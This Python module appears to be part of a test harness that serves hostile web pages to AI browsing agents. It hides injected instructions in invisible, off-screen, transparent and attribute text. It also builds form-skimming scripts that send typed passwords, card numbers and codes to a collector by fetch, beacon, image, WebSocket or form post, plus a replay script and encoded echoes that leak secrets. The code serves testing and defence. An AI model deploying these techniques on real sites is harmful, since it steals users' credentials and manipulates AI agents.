"""The HTML of the hostile pages, in pieces the cases put together, and the
handlers that serve them (nodtest.hostile.sites calls a handler with the
request and a Visit). A value a visitor sent is never written into a page,
but where a case's attack is exactly that (a search page showing what was
searched for)."""

from collections.abc import Callable
from html import escape

from aiohttp import web

from nodtest.hostile.sites import Handler, Visit

Build = Callable[[Visit], str]


def html(body: str, status: int = 200) -> web.Response:
    return web.Response(text=body, status=status, content_type="text/html")


def layout(title: str, *parts: str) -> str:
    return (
        "<!doctype html><html lang='en'><head><meta charset='utf-8'>"
        f"<title>{escape(title)}</title></head><body><main><h1>{escape(title)}</h1>"
        + "".join(parts)
        + "</main></body></html>"
    )


# --- where an instruction sits ----------------------------------------------

# Each takes the instruction's text and hides (or shows) it one way.
PLACES: dict[str, Callable[[str], str]] = {
    "visible text": lambda text: f"<p>{escape(text)}</p>",
    "hidden text": lambda text: f'<div style="display:none">{escape(text)}</div>',
    "off-screen text": lambda text: (
        f'<div style="position:absolute;left:-10000px;top:0">{escape(text)}</div>'
    ),
    "transparent text": lambda text: (
        f'<p style="color:transparent;font-size:2px;line-height:2px">{escape(text)}</p>'
    ),
    "an image's alt": lambda text: f'<img src="data:," alt="{escape(text)}" width="1" height="1">',
    "an aria-label": lambda text: f'<button type="button" aria-label="{escape(text)}"></button>',
    "a title": lambda text: f'<a href="#help" title="{escape(text)}"></a>',
    "an alert": lambda text: f'<div role="alert" class="error">{escape(text)}</div>',
}


def say(*lines: str) -> str:
    """Instructions in the page's visible text, one paragraph each."""
    return "".join(PLACES["visible text"](line) for line in lines)


def frame(src: str, title: str = "Help") -> str:
    return f'<iframe src="{escape(src)}" title="{escape(title)}" width="600" height="160"></iframe>'


# --- forms ---------------------------------------------------------------------


def field(label: str, name: str, *, type: str = "text", style: str = "", extra: str = "") -> str:
    style_attr = f' style="{style}"' if style else ""
    return (
        f'<label for="{name}">{escape(label)}</label>'
        f'<input id="{name}" name="{name}" type="{type}"{style_attr}{extra}>'
    )


def form(
    action: str, *parts: str, button: str = "Sign in", method: str = "post", id: str = "login"
) -> str:
    return (
        f'<form id="{id}" method="{method}" action="{escape(action)}">'
        + "".join(parts)
        + f'<button type="submit">{escape(button)}</button></form>'
    )


def sign_in(action: str, *, button: str = "Sign in") -> str:
    """An ordinary sign-in form: a username and a visible password field."""
    return form(
        action,
        field("Username", "username", extra=' autocomplete="username"'),
        field("Password", "password", type="password", extra=' autocomplete="current-password"'),
        button=button,
    )


def signed_in_here(action: str) -> str:
    """A sign-in whose form a script sends (fetch) and then replaces with
    the signed-in page, so the page and its scripts stay."""
    return sign_in(action) + (
        "<script>const login = document.getElementById('login');"
        "login.addEventListener('submit', async (event) => { event.preventDefault();"
        "  await fetch(login.action, {method: 'POST', body: new FormData(login)});"
        "  const done = document.createElement('div');"
        "  done.innerHTML = '<p>You are signed in.</p><button type=\"button\">Sign out</button>';"
        "  login.replaceWith(done); });</script>"
    )


def search_box(action: str, *, method: str = "get") -> str:
    return form(
        action, field("Search", "q", type="search"), button="Go", method=method, id="search"
    )


def checkout(action: str) -> str:
    return form(
        action,
        field("Card number", "cardnumber", extra=' autocomplete="cc-number" inputmode="numeric"'),
        field("Expiry", "exp", extra=' autocomplete="cc-exp" placeholder="MM/YY"'),
        button="Pay 19.99 EUR",
        id="checkout",
    )


def code_form(action: str) -> str:
    return form(
        action,
        field("Code", "otp", extra=' autocomplete="one-time-code"'),
        button="Verify",
        id="code",
    )


# --- scripts --------------------------------------------------------------------

# What a page does with what is typed into field #<id>: writes it into the
# page, changed one way (the site "shows back" a private value in a form a
# plain mask does not know).
ECHOES: dict[str, str] = {
    "reversed": "v.split('').reverse().join('')",
    "base64": "btoa(v)",
    "one character per span": "null",
    "hex": (
        "Array.from(new TextEncoder().encode(v), (b) => b.toString(16).padStart(2, '0')).join('')"
    ),
    "character codes": "Array.from(v, (c) => c.charCodeAt(0)).join(',')",
    "URL-encoded": "encodeURIComponent(v)",
}


def echo(field_id: str, how: str) -> str:
    """Shows the field's value, changed `how`, in a paragraph of the page;
    one character per span puts each in a span of its own."""
    return (
        '<p>Strength check: <span id="echo"></span></p><script>'
        f"const input = document.getElementById({field_id!r});"
        "const shown = document.getElementById('echo');"
        "input.addEventListener('input', () => { const v = input.value;"
        f"  const changed = {ECHOES[how]};"
        "  if (changed !== null) { shown.textContent = changed; return; }"
        "  shown.replaceChildren(...Array.from(v, (c) => {"
        "    const span = document.createElement('span'); span.textContent = c + ' ';"
        "    return span; }));"
        "});</script>"
    )


# How a page's script sends what is typed into field #<id> to another site
# (`to`: the collector's URL), as soon as it is typed.
SENDS: dict[str, str] = {
    "fetch": "fetch(to, {method: 'POST', mode: 'no-cors', body: v, keepalive: true})",
    "a beacon": "navigator.sendBeacon(to, v)",
    "an image's URL": "new Image().src = to + '?v=' + encodeURIComponent(v)",
    "a WebSocket": "socket.send(v)",
    "a form posted to another site": (
        "(() => { const f = document.createElement('form'); f.method = 'post'; f.action = to;"
        " f.target = 'sink'; const i = document.createElement('input'); i.name = 'v'; i.value = v;"
        " f.append(i); document.body.append(f); f.submit(); })()"
    ),
}


def send(field_id: str, how: str, to: str) -> str:
    socket = ""
    if how == "a WebSocket":
        ws = "ws" + to.removeprefix("http")
        socket = f"const socket = new WebSocket({ws!r});"
    return (
        '<iframe name="sink" title="" width="0" height="0" style="border:0"></iframe><script>'
        f"const to = {to!r}; {socket}"
        f"document.getElementById({field_id!r}).addEventListener('input', (event) => {{"
        f"  const v = event.target.value; {SENDS[how]}; }});</script>"
    )


# A "session replay" script, as analytics vendors ship it: it records what
# is typed into every field but the ones it takes for passwords (visible
# type=password fields), and sends it to its own site.
REPLAY = """<script>
const replayTo = %s;
const seen = (el) => { const r = el.getBoundingClientRect();
  const s = getComputedStyle(el);
  const top = document.elementFromPoint(r.left + r.width / 2, r.top + r.height / 2);
  return r.width > 0 && r.right > 0 && r.bottom > 0 && s.opacity !== '0'
    && s.visibility !== 'hidden' && top === el; };
document.addEventListener('input', (event) => {
  const el = event.target;
  if (el.type === 'password' && seen(el)) return;
  fetch(replayTo, {method: 'POST', mode: 'no-cors', keepalive: true,
    body: JSON.stringify({field: el.name, value: el.value})});
}, true);
</script>"""


def replay(to: str) -> str:
    return REPLAY % repr(to)


# --- handlers --------------------------------------------------------------------


def page(build: Build) -> Handler:
    async def serve(request: web.Request, visit: Visit) -> web.StreamResponse:
        return html(build(visit))

    return serve


def redirect(to: Callable[[Visit], str], status: int = 302) -> Handler:
    async def serve(request: web.Request, visit: Visit) -> web.StreamResponse:
        return web.Response(status=status, headers={"Location": to(visit)})

    return serve


def answer(title: str, text: str, *, order: bool = False) -> Handler:
    """What a form's action answers: a page saying it went through; a
    checkout's also notes the order (a payment taken)."""

    async def serve(request: web.Request, visit: Visit) -> web.StreamResponse:
        if order and request.method == "POST":
            visit.order()
        return html(layout(title, f'<p role="status" class="success">{escape(text)}</p>'))

    return serve


def search_results(*then: str) -> Handler:
    """A search page that shows what was searched for, and more instructions."""

    async def serve(request: web.Request, visit: Visit) -> web.StreamResponse:
        asked = request.query.get("q", "")
        shown = f"<p>No results for \u201c{escape(asked)}\u201d.</p>"
        return html(layout("Search results", shown, say(*then)))

    return serve
